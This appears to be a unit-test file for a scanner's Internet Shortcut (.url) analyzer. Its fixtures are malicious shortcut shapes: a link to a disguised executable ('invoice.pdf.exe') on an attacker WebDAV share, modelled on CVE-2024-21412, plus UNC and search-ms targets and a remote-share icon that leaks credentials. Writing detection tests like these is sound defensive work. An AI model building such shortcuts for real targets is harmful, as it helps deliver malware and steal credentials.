// The Internet Shortcut analyzer on generated .url files: targets, remote files and icons.
#include "analyzers/url/url.h"

#include <gtest/gtest.h>

#include <memory>

namespace kagami::analyzers {
namespace {

struct Scanned {
    Limits limits;
    Context ctx{limits, {}};
    UrlAnalyzer analyzer;
    Output out{analyzer.name(), "lure.url", ctx};
    explicit Scanned(std::string_view bytes) {
        analyzer.analyze({bytes, "lure.url", "lure.url", 0}, out);
    }

    std::vector<std::string> facts(std::string_view name) {
        std::vector<std::string> v;
        for (const auto& f : out.facts())
            if (f.name == name) v.push_back(f.value);
        return v;
    }
    const Finding* finding(std::string_view id) {
        for (const auto& f : out.findings())
            if (f.id == id) return &f;
        return nullptr;
    }
};

TEST(UrlAnalyzer, SniffsShortcutsByContent) {
    UrlAnalyzer a;
    EXPECT_TRUE(a.sniff("[InternetShortcut]\r\nURL=https://example.com/\r\n"));
    EXPECT_TRUE(a.sniff("\xEF\xBB\xBF  \r\n[internetshortcut]\nURL=x"));
    EXPECT_TRUE(
        a.sniff("[{000214A0-0000-0000-C000-000000000046}]\nProp3=19,11\n"
                "[InternetShortcut]\nURL=https://a/"));
    EXPECT_TRUE(a.sniff("[DEFAULT]\nBASEURL=https://a/\n[InternetShortcut]\nURL=https://a/"));
    std::string u16 = "\xFF\xFE";
    for (char c : std::string_view("[InternetShortcut]\r\n")) u16 += {c, '\0'};
    EXPECT_TRUE(a.sniff(u16));
    EXPECT_FALSE(a.sniff("Here is the [InternetShortcut] you asked for"));
    EXPECT_FALSE(a.sniff("[Settings]\nURL=https://a/\n"));
    EXPECT_FALSE(a.sniff(""));
}

TEST(UrlAnalyzer, WebPageShortcutIsOnlyAFact) {
    Scanned r(
        "[InternetShortcut]\r\nURL=https://www.example.com/meeting\r\nIconIndex=0\r\n"
        "IconFile=C:\\Windows\\System32\\shell32.dll\r\nWorkingDirectory=C:\\Users\r\n");
    EXPECT_EQ(r.out.type(), "url");
    EXPECT_EQ(r.facts("url.target"), std::vector<std::string>{"https://www.example.com/meeting"});
    EXPECT_EQ(r.facts("url.icon_file"),
              std::vector<std::string>{"C:\\Windows\\System32\\shell32.dll"});
    EXPECT_EQ(r.facts("url.working_dir"), std::vector<std::string>{"C:\\Users"});
    EXPECT_TRUE(r.out.findings().empty());
}

TEST(UrlAnalyzer, ReportsFileUrlOnRemoteShare) {
    // The CVE-2024-21412 shape: a shortcut to a file on an attacker's WebDAV share.
    Scanned r(
        "[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,9\r\n[InternetShortcut]\r\n"
        "IDList=\r\nURL=file://198.51.100.7@80/share/invoice.pdf.exe\r\n");
    const Finding* f = r.finding("url.remote_file");
    ASSERT_NE(f, nullptr);
    EXPECT_EQ(f->evidence, "file://198.51.100.7@80/share/invoice.pdf.exe");
    EXPECT_EQ(f->attack, std::vector<std::string>{"T1204.002"});
}

TEST(UrlAnalyzer, ReportsUncAndSearchTargets) {
    EXPECT_NE(Scanned("[InternetShortcut]\nURL=\\\\files.example.net\\pub\\setup.vbs\n")
                  .finding("url.remote_file"),
              nullptr);
    EXPECT_NE(Scanned("[InternetShortcut]\nURL=search-ms:query=x&crumb=location:\\\\host@8080\\s\n")
                  .finding("url.remote_file"),
              nullptr);
    EXPECT_NE(Scanned("[InternetShortcut]\nURL=https://host/DavWWWRoot/a/run.js\n")
                  .finding("url.remote_file"),
              nullptr);
    EXPECT_EQ(
        Scanned("[InternetShortcut]\nURL=https://host/report.html\n").finding("url.remote_file"),
        nullptr);
}

TEST(UrlAnalyzer, ReportsIconOnRemoteShare) {
    Scanned r(
        "[InternetShortcut]\nURL=https://example.com/\nIconFile=\\\\203.0.113.9\\icons\\a.ico\n"
        "IconIndex=1\n");
    const Finding* f = r.finding("url.icon_remote");
    ASSERT_NE(f, nullptr);
    EXPECT_EQ(f->evidence, "\\\\203.0.113.9\\icons\\a.ico");
    EXPECT_EQ(f->attack, std::vector<std::string>{"T1187"});
    EXPECT_EQ(r.finding("url.remote_file"), nullptr);
}

TEST(UrlAnalyzer, ReadsUtf16Shortcut) {
    std::string u16 = "\xFF\xFE";
    for (char c : std::string("[InternetShortcut]\r\nURL=file:///C:/Windows/calc.exe\r\n")) {
        u16 += c;
        u16 += '\0';
    }
    Scanned r(u16);
    EXPECT_EQ(r.facts("url.target"), std::vector<std::string>{"file:///C:/Windows/calc.exe"});
    EXPECT_NE(r.finding("url.remote_file"), nullptr);
}

TEST(UrlAnalyzer, ToleratesHostileInput) {
    // No section, control characters, a huge single line, invalid UTF-8.
    Scanned none("URL=file://x/y.exe\n");
    EXPECT_EQ(none.finding("url.remote_file"), nullptr);
    EXPECT_NE(none.finding("url.malformed"), nullptr);
    std::string big = "[InternetShortcut]\nURL=https://a/" + std::string(1 << 20, 'A') + "\n";
    Scanned r(big);
    ASSERT_EQ(r.facts("url.target").size(), 1u);
    EXPECT_LE(r.facts("url.target")[0].size(), 4096u);
    Scanned bad("[InternetShortcut]\nURL=https://a/\xFF\xFE\x01\x02\n");
    ASSERT_EQ(bad.facts("url.target").size(), 1u);
    EXPECT_EQ(bad.facts("url.target")[0].find('\x01'), std::string::npos);
    std::string lines = "[InternetShortcut]\n";
    for (int i = 0; i < 20000; ++i) lines += "\n;\n";
    Scanned many(lines);
    EXPECT_NE(many.finding("url.malformed"), nullptr);
}

}  // namespace
}  // namespace kagami::analyzers
